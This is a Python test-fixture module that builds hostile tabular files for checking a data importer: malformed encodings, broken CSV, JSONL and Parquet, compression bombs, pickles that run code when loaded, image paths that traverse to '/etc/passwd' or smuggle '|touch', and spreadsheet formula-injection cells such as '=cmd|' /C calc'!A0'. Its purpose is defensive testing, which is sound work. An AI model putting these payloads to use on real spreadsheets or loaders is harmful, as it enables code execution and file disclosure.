"""Tables of every odd encoding and shape, and cells that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
import struct
from collections.abc import Callable, Iterator
from pathlib import Path

from tlstudio.selftest.hostile.files import HostileFile, Outcome, Place, Site, content
from tlstudio.selftest.hostile.pickles import calls, save_bare

Write = Callable[[Path, Site], None]

FORMULAS = {
    "equals": "=1+1",
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "a\r=1+1",
    "line break": "a\n=1+1",
    "link": '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"click")',
    "behind a semicolon": "a;=1+1",
    "behind a tab": "a\t@SUM(1)",
    "behind a quote": '";=1+1',
    "full width": "\uff1d1+1",
    "behind spaces": "  =1+1",
    "with an apostrophe": "'=1+1",
    "with two apostrophes": "''=1+1",
    "a number": "-5",
    "a smiley": "well ;-) said",
}


def rows(*extra: tuple[str, str], encoding: str = "utf-8", newline: str = "\n") -> bytes:
    """A table of texts with good rows and then some."""
    good = [
        (f"No. {number}: a {'fine' if number % 2 else 'dull'} film", ("good", "bad")[number % 2])
        for number in range(20)
    ]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator=newline).writerows([("text", "label"), *good, *extra])
    return buffer.getvalue().encode(encoding, "replace")


def lines(*extra: str) -> bytes:
    """The same as JSON lines."""
    good = [json.dumps({"text": f"a film no. {number}", "label": ("good", "bad")[number % 2]}) for number in range(20)]
    return "\n".join([*good, *extra, ""]).encode("utf-8", "surrogatepass")


def _parquet(change: Callable[[bytes], bytes]) -> Write:
    def write(path: Path, _site: Site) -> None:
        import pyarrow as pa
        import pyarrow.parquet as pq

        table = pa.table({"text": [f"a film no. {n}" for n in range(40)], "label": ["good", "bad"] * 20})
        pq.write_table(table, path)
        path.write_bytes(change(path.read_bytes()))

    return write


def _extension(path: Path, site: Site) -> None:
    """A column of an extension type whose description is a pickle, as pyarrow's old PyExtensionType made it."""
    import pickle

    import pyarrow as pa
    import pyarrow.parquet as pq

    note = {b"ARROW:extension:name": b"arrow.py_extension_type"}
    note[b"ARROW:extension:metadata"] = pickle.dumps(calls()["os.mkdir"](site.canary))
    field = pa.field("text", pa.string(), metadata=note)
    schema = pa.schema([field, pa.field("label", pa.string())])
    columns = [pa.array([f"a film no. {n}" for n in range(40)]), pa.array(["good", "bad"] * 20)]
    pq.write_table(pa.Table.from_arrays(columns, schema=schema), path)


def _bomb(path: Path, _site: Site) -> None:
    """Some kilobytes that are a hundred megabytes of text."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    text = "a dull film " * 90_000
    table = pa.table({"text": pa.array([text, text[1:]] * 20), "label": ["good", "bad"] * 20})
    with pq.ParquetWriter(path, table.schema, compression="zstd") as writer:
        for _ in range(2):
            writer.write_table(table)


def _code(path: Path, site: Site) -> None:
    save_bare(calls()["exec"](site.canary), path)


def files() -> Iterator[HostileFile]:
    """Tables to import, tables of images whose paths lead elsewhere, and tables whose predictions are written."""
    danger = "It is not what a reader of tables expects."
    nul, wide = "a\0b\0c", "word " * 40_000
    deep = '{"text": ' + "[" * 20_000 + "]" * 20_000 + ', "label": "good"}'
    cases: list[tuple[str, str, Write, Outcome]] = [
        ("UTF-16 with a mark", "t.csv", content(rows(("naïve", "good"), encoding="utf-16")), "used"),
        ("UTF-16 without a mark", "t.csv", content(rows(("naïve", "good"), encoding="utf-16-be")), "used"),
        ("UTF-32", "t.csv", content(rows(("naïve", "good"), encoding="utf-32")), "used"),
        ("UTF-8 with a mark", "t.csv", content(rows(("naïve", "good"), encoding="utf-8-sig")), "used"),
        ("CP1252", "t.csv", content(rows(("naïve café - “so”", "good"), encoding="cp1252")), "used"),
        ("bytes of no encoding", "t.csv", content(rows() + bytes(range(128, 256)) + b",good\n"), "either"),
        ("half a letter at the end", "t.csv", content(rows() + b"caf\xc3"), "either"),
        ("NUL", "t.csv", content(rows((nul, "good"), ("b", "go\0od"))), "either"),
        ("nothing but NUL", "t.csv", content(bytes(10_000)), "either"),
        ("fields of 200 kB", "t.csv", content(rows((wide, "good"), (wide, "bad"))), "used"),
        ("a name of a column of 200 kB", "t.csv", content(b"text," + b"x" * 200_000 + b"\na,b\nc,d\n"), "either"),
        ("ragged", "t.csv", content(rows() + b"a\nb,good,x,y,z\n,\n,,,,,\n"), "refused"),
        ("one line of 20 MB", "t.csv", content(b"text,label\n" + b"a word " * 3_000_000), "either"),
        ("one line of 20 MB without a comma", "t.csv", content(b"x" * 20_000_000), "either"),
        (
            "a million columns",
            "t.csv",
            content(",".join(["x"] * 10**6) + "\n" + ",".join(["1"] * 10**6) + "\n"),
            "refused",
        ),
        ("an open quote", "t.csv", content(rows() + b'"never closed,good\n' + b"a,good\n" * 1000), "either"),
        ("thousands of open quotes", "t.csv", content(rows() + b'"a"b"c,good\n"\n' * 3_000), "either"),
        (
            "line ends of all kinds",
            "t.csv",
            content(rows(newline="\r") + b"a,good\r\nb,bad\n\rc,good\x0bd,bad\x0c"),
            "either",
        ),
        ("surrogates", "t.csv", content(rows() + b"\xed\xa0\x80\xed\xb0\x80,good\n"), "either"),
        ("text from right to left", "t.csv", content(rows(("\u202egood\u202c \u2066bad", "go\u202eod"))), "used"),
        ("escape codes", "t.csv", content(rows(("\x1b[2J\x1b]52;c;ZXZpbA==\x07", "go\x1b[31mod"))), "used"),
        ("labels that lead elsewhere", "t.csv", content(rows(("a", "../../etc"), ("b", "/etc/passwd"))), "used"),
        ("labels of 255 kB", "t.csv", content(rows(("a", "x" * 255_000), ("b", "x" * 255_000))), "either"),
        ("a hint for spreadsheets", "t.csv", content(b"sep=\0\n" + rows()), "either"),
        ("an archive", "t.csv", content(b"PK\x03\x04" + bytes(100)), "either"),
        ("nothing", "t.csv", content(b""), "refused"),
        ("nothing but a mark", "t.csv", content(b"\xef\xbb\xbf"), "refused"),
        ("a pickle", "t.csv", _code, "either"),
        ("a pickle", "t.parquet", _code, "refused"),
        ("JSON: deep nesting", "t.jsonl", content(lines(deep)), "either"),
        ("JSON: one endless bracket", "t.jsonl", content(b"[" * 10**6), "refused"),
        ("JSON: objects in objects", "t.jsonl", content(lines('{"text":' * 10**5)), "refused"),
        (
            "JSON: numbers of 10,000 digits",
            "t.jsonl",
            content(lines('{"text": "a", "label": ' + "9" * 10_000 + "}")),
            "refused",
        ),
        (
            "JSON: NaN and infinity",
            "t.jsonl",
            content(
                lines(
                    '{"text": "a", "label": NaN}',
                    '{"text": Infinity, "label": -Infinity}',
                    '{"text": 1e999, "label": "good"}',
                )
            ),
            "either",
        ),
        (
            "JSON: duplicate keys",
            "t.jsonl",
            content(lines('{"text": "a", "text": "b", "label": "good", "label": "bad"}')),
            "used",
        ),
        ("JSON: half a letter", "t.jsonl", content(lines('{"text": "\\ud800", "label": "good\\udfff"}')), "used"),
        ("JSON: NUL", "t.jsonl", content(lines('{"text": "a\\u0000b", "label": "go\\u0000od"}')), "used"),
        ("JSON: an array cut off", "t.json", content(b'[{"text": "a", "label": "good"}, {"te'), "refused"),
        ("JSON: a number alone", "t.json", content(b"1"), "refused"),
        (
            "JSON: a hundred thousand names",
            "t.jsonl",
            content(json.dumps({f"k{n}": n for n in range(100_000)}) + "\n"),
            "refused",
        ),
        ("Parquet: no footer", "t.parquet", _parquet(lambda data: data[:-8]), "refused"),
        (
            "Parquet: footer of 2**31 bytes",
            "t.parquet",
            _parquet(lambda data: data[:-8] + struct.pack("<I", 2**31 - 1) + b"PAR1"),
            "refused",
        ),
        (
            "Parquet: footer of zeros",
            "t.parquet",
            _parquet(lambda data: data[:-200] + bytes(192) + data[-8:]),
            "refused",
        ),
        (
            "Parquet: flipped bytes in the footer",
            "t.parquet",
            _parquet(lambda data: data[:-90] + bytes(b ^ 255 for b in data[-90:-70]) + data[-70:]),
            "either",
        ),
        (
            "Parquet: flipped bytes in the data",
            "t.parquet",
            _parquet(lambda data: data[:40] + bytes(b ^ 255 for b in data[40:90]) + data[90:]),
            "either",
        ),
        ("Parquet: nothing but the mark", "t.parquet", content(b"PAR1PAR1"), "refused"),
        ("Parquet: an extension type with a pickle", "t.parquet", _extension, "either"),
        ("Parquet: a bomb", "t.parquet", _bomb, "either"),
        ("a spreadsheet with macros", "t.xlsm", content(b"PK\x03\x04" + bytes(100)), "refused"),
    ]
    for name, path, write, outcome in cases:
        yield HostileFile(f"table: {name} ({path[2:]})", danger, "table", path, write, outcome)
    elsewhere = (
        "../outside/secret.txt",
        "/etc/passwd",
        "../../../../etc/passwd",
        "file:///etc/passwd",
        "/dev/zero",
        "http://127.0.0.1:9/x.png",
        "a\0b.png",
        "x" * 5000 + ".png",
        "~/x.png",
        "$HOME/x.png",
        "\\\\host\\share\\x.png",
        "C:\\x.png",
        "|touch ran.png",
        "",
        ".",
    )
    for number, target in enumerate(elsewhere):
        yield HostileFile(
            f"table of images: path no. {number} ({target[:30]!r})",
            "Its path leads out of the folder, to a device or to another machine.",
            "table of images",
            "table.csv",
            _paths(target),
            "refused",
            "row 14",
        )
    for name, cell in FORMULAS.items():
        place: Place = "prediction"
        written = content(rows((cell, "good")))
        yield HostileFile(f"formula: {name}", "A spreadsheet would run it.", place, "table.csv", written, "used")


def _paths(target: str) -> Write:
    def write(path: Path, _site: Site) -> None:
        folder = path.parent / "images"
        names = [file.relative_to(path.parent).as_posix() for file in sorted(folder.rglob("*.png"))]
        buffer = io.StringIO()
        labelled = [(name, name.split("/")[1]) for name in names]
        csv.writer(buffer).writerows([("image", "label"), *labelled, (target, "cat")])
        path.write_text(buffer.getvalue(), encoding="utf-8", newline="")

    return write
